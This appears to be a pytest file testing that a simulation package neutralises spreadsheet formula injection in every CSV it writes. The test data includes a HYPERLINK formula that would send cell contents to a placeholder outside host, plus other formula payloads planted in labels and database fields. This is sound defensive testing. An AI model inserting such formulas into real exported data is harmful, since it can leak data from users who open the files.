"""Nothing lost in the last corners (issue 19): no CSV the package writes carries a live
spreadsheet formula — a label or name starting with ``=``, ``+``, ``-`` or ``@`` is written as
text — and numbers stay numbers. Every CSV goes through one function."""

from __future__ import annotations

import csv
import io
import re

import pandas as pd

from centrumsim.cli import main
from centrumsim.results.writing import spreadsheet_safe, write_frame
from centrumsim.sweeps.export import export

from .conftest import MAIN, ROOT
from .sweep_fakes import fake_store, sweep_spec

EVIL = '=HYPERLINK("http://example.invalid/?"&A1,"click")'


def rows(path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def live_formulas(path) -> list[str]:
    """Cells a spreadsheet would run: text starting with = + - @ that is not a plain number."""
    number = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
    return [cell for row in rows(path) for cell in row
            if cell[:1] in ("=", "+", "-", "@") and not number.fullmatch(cell)]


def test_text_is_neutralised_and_numbers_stay_numbers():
    frame = pd.DataFrame({"label": [EVIL, "+46 11 15 00 00", "@SUM(A1)", "-x", "-5", "café", None],
                          "amount": [-5, -1.5, 0, 1e9, -2, 3, 4], "=col": ["a"] * 7})
    buffer = io.BytesIO()
    write_frame(buffer, frame)
    read = list(csv.reader(io.StringIO(buffer.getvalue().decode("utf-8"))))
    assert read[0] == ["label", "amount", "'=col"]
    assert [r[0] for r in read[1:]] == ["'" + EVIL, "'+46 11 15 00 00", "'@SUM(A1)", "'-x", "-5", "café", ""]
    assert [float(r[1]) for r in read[1:]] == [-5, -1.5, 0, 1e9, -2, 3, 4]
    assert frame["label"].iloc[0] == EVIL  # the caller's frame is left alone
    plain = pd.DataFrame({"a": ["x"], "b": [-1]})
    assert spreadsheet_safe(plain) is plain


def test_a_label_reaches_the_run_tables_as_text(tmp_path, write):
    scenario = write("evil.toml", f'extends = "{MAIN.as_posix()}"\n[units.cafe]\nlabel = \'{EVIL}\'\n'
                                  '[payers.municipality]\nlabel = "@SUM(1+1)"\n')
    out = tmp_path / "run"
    assert main(["run", "--fixed", str(scenario), "--seeds", "1", "--years", "1", "--no-plots", "-q", "--out", str(out)]) == 0
    csvs = sorted(out.glob("*.csv"))
    assert len(csvs) == 8 and {p.name: live_formulas(p) for p in csvs} == {p.name: [] for p in csvs}
    units = pd.read_csv(out / "units.csv")
    assert "'" + EVIL in set(units["label"])
    negatives = [cell for p in csvs for row in rows(p) for cell in row if re.fullmatch(r"-\d+(\.\d+)?", cell)]
    assert negatives  # negative numbers, written as numbers


def test_export_neutralises_what_a_store_holds(tmp_path):
    spec = sweep_spec(tmp_path, "lhs", 4)
    fake_store(tmp_path / "s", spec, lambda x: -x[:, 0], fail={(1, 0)})
    import sqlite3

    with sqlite3.connect(tmp_path / "s" / "runs.sqlite") as conn:
        conn.execute("UPDATE runs SET error = ? WHERE status = 'failed'", ("=1+1 made to fail",))
    conn.close()
    export(tmp_path / "s", tmp_path / "runs.csv")
    assert live_formulas(tmp_path / "runs.csv") == []
    frame = pd.read_csv(tmp_path / "runs.csv")
    assert frame.loc[frame["status"] == "failed", "error"].item() == "'=1+1 made to fail"
    assert (frame["enterprise.result_sek_per_year"].dropna() < 0).all()


def test_every_csv_is_written_by_the_one_writer():
    """No module but results/writing.py writes CSV itself (so none can skip the neutraliser)."""
    writers = [p.relative_to(ROOT).as_posix() for p in (ROOT / "centrumsim").rglob("*.py")
               if re.search(r"\.to_csv\(|csv\.writer|csv\.DictWriter", p.read_text("utf-8"))]
    assert writers == ["centrumsim/results/writing.py"]
